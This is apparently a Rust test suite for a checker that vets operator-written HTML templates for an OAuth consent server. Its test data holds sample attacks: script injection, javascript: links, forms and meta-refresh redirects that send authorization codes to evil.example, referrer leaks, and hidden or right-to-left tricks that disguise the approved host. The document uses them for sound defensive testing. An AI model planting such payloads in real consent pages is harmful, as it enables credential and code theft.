//! Templates that an operator could write, by mistake or on purpose, and what is said about them.

use crate::flow::fault;
use crate::web::page::{
    Branding, Consent, Destination, ErrorKind, ErrorPage, Label, Language, Leave, LeaveTo, LeaveUrl,
    PageContext as _, Pages, Verbatim, Written, templates::TEMPLATES,
};

fn checked(name: &str, text: String) -> Result<usize, String> {
    let branding =
        Branding { templates: vec![Written { name: name.to_owned(), text }], ..Branding::default() };
    let pages = Pages::branded(&branding).map_err(|error| fault::chain(&error))?;
    pages.check().map_err(|error| fault::chain(&error))
}

/// One of our templates with a change.
fn changed(name: &str, from: &str, to: &str) -> Result<usize, String> {
    let (_, ours) = TEMPLATES.iter().find(|(known, _)| *known == name).unwrap();
    assert!(ours.contains(from), "{name} has no {from}");
    checked(name, ours.replace(from, to))
}

#[test]
fn what_our_own_templates_make_passes() {
    for (name, ours) in TEMPLATES {
        assert!(checked(name, ours.to_owned()).unwrap() > 50, "{name}");
    }
    let friendly = "<p>Welcome to <a href=\"https://example.com/help\">our tools</a>.</p>\n<h1>";
    assert!(changed("home.html", "<h1>", friendly).is_ok());
    assert!(changed("layout.html", "<footer>", "<hr>\n<footer>Run by us. ").is_ok());
    assert!(changed("app.html", "<p class=\"app\">", "<p class=\"app ours\">").is_ok());
}

#[test]
fn mistakes_are_found_before_anybody_sees_them() {
    for (name, from, to, sentence) in [
        ("home.html", "{% else %}", "{% oops %}", "unknown statement oops"),
        ("home.html", "{{ product }}", "{{ produkt }}", "undefined value"),
        ("home.html", "t(\"home.what\")", "t(\"home.wat\")", "there is no text home.wat"),
        ("app.html", "provider=asking.provider|b", "by=asking.provider|b", "app.wants needs a provider"),
        ("home.html", "{{ server.name }}", "", "home.html does not show the name of an MCP server"),
        ("error.html", "{{ slug }}", "", "error.html does not show the reason"),
        ("error.html", "{{ start_again }}", "/", "error.html lacks the link that leads on"),
        ("leave.html", "href=\"{{ url }}\"", "href=\"/\"", "leave.html lacks the link that leads on"),
        ("layout.html", "{% block content %}{% endblock %}", "", "does not show"),
        ("layout.html", "<main>", "<main><main>", "must have one <main>"),
        (
            "layout.html",
            "<style>{{ style }}</style>",
            "<style>p { color: red }</style>",
            "must have our style and no other",
        ),
    ] {
        let error = changed(name, from, to).unwrap_err();
        assert!(error.contains(sentence), "{name}: {from}: {error}");
    }
    let error = checked("home.htm", String::new()).unwrap_err();
    assert_eq!(error, "home.htm: none of our templates is called that");
}

#[test]
fn attack_a_template_that_hides_what_is_approved() {
    for (name, from, to, sentence) in [
        ("destination.html", "{{ to.host }}", "a good app", "does not show where access would go"),
        (
            "destination.html",
            "{{ to.host }}",
            "<!-- {{ to.host }} -->",
            "does not show where access would go",
        ),
        ("destination.html", "{{ to.scheme }}", "", "does not show where access would go"),
        ("app.html", "{{ asking.client_name }}", "", "does not show the name of the app"),
        ("app.html", "{{ t(\"app.named_by_app\") }}", "verified", "does not show app.named_by_app"),
        (
            "app.html",
            "{{ t(\"app.named_by_app\") }}",
            "<b hidden>{{ t(\"app.named_by_app\") }}</b>",
            "must not have hidden",
        ),
        ("app.html", "{{ t(\"warning.any_program\") }}", "", "does not show warning.any_program"),
        (
            "app.html",
            "{{ t(\"warning.looks_like\"",
            "{{ t(\"warning.looks_like\")[:0] }}{{ t(\"app.published_by\"",
            "needs a name",
        ),
        ("app.html", "{{ t(\"warning.hides\") }}", "", "does not show warning.hides"),
        (
            "full.html",
            "{{ t(\"warning.no_resource\", url=asking.server.url|code) }}",
            "",
            "does not show warning.no_resource",
        ),
        ("new.html", "{{ t(\"warning.asks_for_more\") }}", "", "does not show warning.asks_for_more"),
        ("details.html", "{{ asking.redirect_uri }}", "", "does not show the redirect URI"),
        ("details.html", "<dl>", "<details>", "must not have <details>"),
        ("scopes.html", "<code>{{ scope.name }}</code>", "", "does not show a scope"),
        ("scopes.html", "{{ scope.words }}", "", "does not show a scope"),
        ("scopes.html", "<input type=\"checkbox\"", "<input type=\"hidden\"", "must have no fields but ours"),
        (
            "full.html",
            "{{ scope_list(asking.scopes) -}}",
            "<div class=\"moment\">{{ scope_list(asking.scopes) -}}</div>",
            "does not show a scope",
        ),
        ("full.html", "action=\"/consent\"", "action=\"https://evil.example/\"", "must have one <form"),
        ("full.html", "method=\"post\"", "method=\"get\"", "must have one <form"),
        ("full.html", "value=\"{{ request }}\"", "value=\"\"", "must have no fields but ours"),
        (
            "full.html",
            "<input type=\"hidden\" name=\"request\" value=\"{{ request }}\">",
            "",
            "must have the hidden field request once",
        ),
        ("choice.html", "value=\"deny\"", "value=\"approve\"", "must have the buttons deny and approve"),
        ("choice.html", " class=\"approve\"", "", "must have the buttons deny and approve"),
        (
            "choice.html",
            "<button name=\"decision\" value=\"deny\">{{ t(\"choice.deny\") }}</button>",
            "",
            "must have the buttons",
        ),
        ("choice.html", "value=\"approve\"", "value=\"approve\" autofocus", "must not have autofocus"),
        (
            "consent.html",
            "{% include \"destination.html\" %}\n{% if",
            "{% if",
            "does not show where access would go",
        ),
        (
            "arrival.html",
            "<p class=\"account\"><bdi>{{ account }}</bdi></p>",
            "",
            "does not show the account",
        ),
    ] {
        let error = changed(name, from, to).expect_err(&format!("{name}: {from} -> {to}"));
        assert!(error.contains(sentence), "{name}: {from}: {error}");
    }
    let ours = TEMPLATES.iter().find(|(name, _)| *name == "consent.html").unwrap().1;
    let last = ours.replace("{% include \"destination.html\" %}\n", "").replace(
        "{% endif %}\n{% endblock %}",
        "{% endif %}\n{% include \"destination.html\" %}\n{% endblock %}",
    );
    assert!(checked("consent.html", last).unwrap_err().contains("before where access would go"));
}

#[test]
fn attack_a_template_that_runs_or_loads_something() {
    for (to, sentence) in [
        ("<script>alert(1)</script>", "must not have <script>"),
        ("<img src=\"https://evil.example/x.png\">", "must not load anything"),
        ("<iframe></iframe>", "must not have <iframe>"),
        ("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "must not have <link>"),
        ("<p onclick=\"alert(1)\">x</p>", "must not have onclick"),
        ("<p style=\"display: none\">x</p>", "must not have style"),
        ("<p id=\"x\">x</p>", "must not have id"),
        ("<a href=\"javascript:alert(1)\">x</a>", "has a link to an address that is not https"),
        ("<a href=\"//evil.example\">x</a>", "has a link to an address that is not https"),
        ("<a href=\"http://evil.example\">x</a>", "has a link to an address that is not https"),
        (
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "must not have <meta http-equiv>",
        ),
        ("<style>main { display: none }</style>", "must have our style and no other"),
        ("<form></form>", "form"),
        ("<input name=\"password\">", "form"),
        ("<base href=\"https://evil.example/\">", "must not have <base>"),
        ("<svg><g/></svg>", "must not have <svg>"),
    ] {
        let error = changed("layout.html", "<footer>", &format!("{to}<footer>")).expect_err(to);
        assert!(error.contains(sentence), "{to}: {error}");
    }
    for style in ["<style>p { }</style>{{ style }}", "<style title=\"x\">{{ style }}</style>"] {
        let error = changed("layout.html", "<style>{{ style }}</style>", style).expect_err(style);
        assert!(error.contains("must have our style and no other"), "{style}: {error}");
    }
    let unescaped =
        changed("app.html", "{{ asking.client_name }}", "{{ asking.client_name|safe }}").unwrap_err();
    assert!(unescaped.contains("must not have <script>"), "{unescaped}");
    let unescaped = changed("details.html", "asking.client_id|code", "asking.client_id|safe").unwrap_err();
    assert!(unescaped.contains("must not"), "{unescaped}");
}

#[test]
fn pages_with_many_forms_post_where_they_should() {
    let judged = |page: &str| {
        let wanted = [("form", "sealed".to_owned()), ("disconnect", "1".to_owned())];
        super::forms::several(&super::tokens(page), "/account", &wanted)
    };
    let good = "<form method=post action=/account><input type=hidden name=form value=sealed>\
                <button name=disconnect value=1>x</button></form><form method=POST action=/account><button name=out></button></form>";
    assert_eq!(judged(good), Ok(()));
    for (from, to) in [
        ("action=/account", "action=https://evil.example/"),
        ("method=post", "method=get"),
        ("action=/account>", "action=/account target=_blank>"),
        ("value=sealed", "value=other"),
        ("value=1", "value=2"),
        ("</form><form", "<form"),
        ("<form method=post action=/account>", ""),
    ] {
        assert!(judged(&good.replacen(from, to, 1)).is_err(), "{from} -> {to}");
    }
}

/// Ways to have on the page what is not seen, and to have what we read differ from what a browser reads. Each once passed.
#[test]
fn attack_a_template_that_is_read_in_two_ways() {
    let host = "<bdi class=\"host\">{{ to.host }}</bdi>";
    for (inside, sentence) in [
        // Elements that hide, move, shrink, turn or strike through what is in them.
        ("<datalist>HOST</datalist>", "must not have <datalist>"),
        ("<progress>HOST</progress>", "must not have <progress>"),
        ("<meter>HOST</meter>", "must not have <meter>"),
        ("<ruby><rp>HOST</rp></ruby>", "must not have <ruby>"),
        ("<bdo dir=\"rtl\">HOST</bdo>", "must not have <bdo>"),
        ("<font color=\"#fff\">HOST</font>", "must not have <font>"),
        ("<marquee>HOST</marquee>", "must not have <marquee>"),
        ("<small><small><small>HOST</small></small></small>", "must not have <small>"),
        ("<s>HOST</s>", "must not have <s>"),
        ("<title>HOST</title>", "must not have <title> in <main>"),
        ("<title></titlex>HOST</title>", "must not have <title> in <main>"),
        // Attributes that do.
        ("<table><tr><td bgcolor=\"#000\">HOST</td></tr></table>", "must not have bgcolor"),
        ("<span dir=\"rtl\">HOST</span>", "must not have dir"),
        ("<span role=\"presentation\">HOST</span>", "must not have that role"),
        ("<span aria-label=\"a good app\">HOST</span>", "must not have aria-label"),
        // Classes of ours that do, however written, and however left open.
        ("<span class=\"moment\">HOST</span>", "does not show where access would go"),
        ("<span class=\"mom&#101;nt\">HOST</span>", "does not show where access would go"),
        ("<span class=\"mom&#x65;nt\">HOST</span>", "does not show where access would go"),
        ("<span class=\"approve\">HOST</span>", "does not show where access would go"),
        ("<span><b class=\"moment\"></span>HOST</b>", "must close each element"),
        ("<span class=\"name\">a b<br>c<br>d<br>HOST</span>", "must have nothing but a name"),
        ("<span class=\"name\">LONG HOST</span>", "must have no more than a name"),
        // Texts that turn.
        ("&#x202e;HOST", "has a character that turns"),
        ("\u{202e}HOST", "has a character that turns"),
        ("&rlm;HOST", "has a & that begins no character"),
        ("&#8238HOST", "has a & that begins no character"),
        // What we would take for a comment, a tag or a value, and a browser would not; and the other way around.
        ("HOST<!--><datalist><!-- -->", "must not have <datalist>"),
        ("HOST<!---><datalist><!-- -->", "must not have <datalist>"),
        ("HOST<!-- --!><datalist><!-- -->", "must not have <datalist>"),
        ("HOST<3 <meta http-equiv=\"refresh\">", "must not have <3>"),
        ("</span x=\"> HOST \">", "must not have </…>"),
        ("<span class=\u{a0}\" hidden x=\">HOST</span>", "must not have hidden"),
        ("<span<b>HOST", "must not have <…>"),
        ("HOST<span", "must"),
        ("HOST<![CDATA[ x ]]>", "must not have <!…>"),
    ] {
        let to = inside.replace("HOST", "{{ to.host }}").replace("LONG", &"long text ".repeat(12));
        let error = changed("destination.html", host, &to).expect_err(inside);
        assert!(error.contains(sentence), "{inside}: {error}");
    }
}

/// A page of approval whose buttons say something else, or whose form demands something.
#[test]
fn attack_a_template_whose_buttons_mislead() {
    for (name, from, to, sentence) in [
        (
            "choice.html",
            "{{ t(\"choice.approve\") }}",
            "{{ t(\"choice.deny\") }}",
            "must have the text choice.approve",
        ),
        (
            "choice.html",
            "{{ t(\"choice.deny\") }}",
            "{{ t(\"choice.approve\") }}",
            "must have the text choice.deny",
        ),
        ("short.html", "{{ t(\"short.deny\") }}", "Go on", "must have the text choice.deny"),
        ("choice.html", "value=\"deny\"", "value=\"deny\" disabled", "must not have disabled"),
        (
            "choice.html",
            "value=\"approve\"",
            "value=\"approve\" aria-label=\"Deny\"",
            "must not have aria-label",
        ),
        ("scopes.html", " checked>", " checked required>", "must not have required"),
        ("full.html", "<form method", "<form enctype=\"text/plain\" method", "must not have enctype"),
        (
            "full.html",
            "</form>",
            "</form>\n<p><a class=\"onward\" href=\"https://evil.example/\">{{ t(\"choice.approve\") }}</a></p>",
            "must not have a link that looks like a button",
        ),
        (
            "connected.html",
            "<input type=\"hidden\" name=\"account\"",
            "<input type=\"password\" name=\"account\"",
            "must have no fields to fill in",
        ),
    ] {
        let error = changed(name, from, to).expect_err(&format!("{name}: {from} -> {to}"));
        assert!(error.contains(sentence), "{name}: {from}: {error}");
    }
}

/// The page that goes elsewhere by itself, with an authorization code in its address: nobody else gets that, at once or with
/// a click, and not in a `Referer` either.
#[test]
fn attack_a_template_that_takes_a_code_elsewhere() {
    let refresh = "<meta http-equiv=\"refresh\" content=\"0;url={{ url }}\">";
    for (from, to, sentence) in [
        (
            refresh,
            refresh.replace("{{ url }}", "https://evil.example/?{{ url }}"),
            "must not have <meta http-equiv>",
        ),
        (
            refresh,
            format!("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">{refresh}"),
            "must not have <meta http-equiv>",
        ),
        (refresh, refresh.replace("refresh", "set-cookie"), "must not have <meta http-equiv>"),
        (refresh, refresh.replace("0;url", "9;url"), "must not have <meta http-equiv>"),
        (
            refresh,
            format!("<meta name=\"referrer\" content=\"unsafe-url\">{refresh}"),
            "must not have that <meta name>",
        ),
        (
            "<p><a class",
            "<p><a href=\"https://evil.example/?{{ url }}\">here</a> <a class".to_owned(),
            "has a link to an address",
        ),
        (
            "<p><a class",
            "<p><a href=\"https://evil.example/?{{ url[-8:] }}\">here</a> <a class".to_owned(),
            "has a link to an address",
        ),
        (
            "rel=\"noreferrer\"",
            "rel=\"noreferrer\" referrerpolicy=\"unsafe-url\"".to_owned(),
            "must not have referrerpolicy",
        ),
        ("rel=\"noreferrer\"", "ping=\"https://evil.example/\"".to_owned(), "must not have ping"),
    ] {
        let error = changed("leave.html", from, &to).expect_err(&to);
        assert!(error.contains(sentence), "{to}: {error}");
    }
    let error = changed("layout.html", "initial-scale=1", "initial-scale=0.1").unwrap_err();
    assert!(error.contains("must have the viewport"), "{error}");
    // What is there on each page, and is nobody's code, may stay.
    let imprint = "<footer><a href=\"https://example.com/imprint\" target=\"_blank\">Imprint</a> ";
    assert!(changed("layout.html", "<footer>", imprint).is_ok());
    let table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>&copy; b</td></tr></tbody></table><hr>\n<footer>";
    assert!(changed("layout.html", "<footer>", table).is_ok());
}

/// A template that behaves with samples and not with people: what they get is made of ours then.
#[test]
fn attack_a_template_that_knows_a_sample_when_it_sees_one() {
    let (real, sample) = ("https://real.example/cb?code=real", "https://sample.example/cb?code=sample");
    let (_, leave) = TEMPLATES.iter().find(|(known, _)| *known == "leave.html").unwrap();
    let elsewhere = leave.replace(
        "content=\"0;url={{ url }}\"",
        "content=\"0;url={% if \"real\" in url %}https://evil.example/?{% endif %}{{ url }}\"",
    );
    let (_, destination) = TEMPLATES.iter().find(|(known, _)| *known == "destination.html").unwrap();
    let hidden =
        destination.replace("{{ to.host }}", "{{ \"good.example\" if \"real\" in to.host else to.host }}");
    let (_, error) = TEMPLATES.iter().find(|(known, _)| *known == "error.html").unwrap();
    let breaks = error.replace("{{ slug }}", "{{ slug }}{{ nowhere if support_id == \"real\" else \"\" }}");
    let written = |name: &str, text: String| Written { name: name.to_owned(), text };
    let branding = Branding {
        templates: vec![
            written("leave.html", elsewhere),
            written("destination.html", hidden),
            written("error.html", breaks),
        ],
        ..Branding::default()
    };
    let pages = Pages::branded(&branding).unwrap();
    pages.check().unwrap();
    let voice = pages.speaking(Language::default());
    let leaving = |url: &str| {
        let to = LeaveTo::Client { host: Verbatim::new("real.example") };
        voice.render(&Leave { url: LeaveUrl::new(url).unwrap(), to }).unwrap()
    };
    for url in [real, sample] {
        let page = leaving(url);
        assert!(page.contains(&format!("content=\"0;url={url}\"")) && !page.contains("evil"), "{page}");
    }
    let asking = |host: &str| {
        let mut consent = Consent::samples().remove(0);
        consent.asking.destination = Destination::Web { host: Verbatim::new(host) };
        // A word that stands on the page anyway is a name that a stranger may well choose.
        consent.asking.client_name = Some(Label::new("a"));
        voice.render(&consent).unwrap()
    };
    for host in ["real.example", "sample.example"] {
        let page = asking(host);
        assert!(
            page.contains(&format!("<bdi class=\"host\">{host}</bdi>")) && !page.contains("good.example")
        );
    }
    for id in ["real", "sample"] {
        let page = voice.render(&ErrorPage::new(ErrorKind::NotFound, id, None)).unwrap();
        assert!(page.contains("<code>not_found</code>") && page.contains(id), "{page}");
    }
}
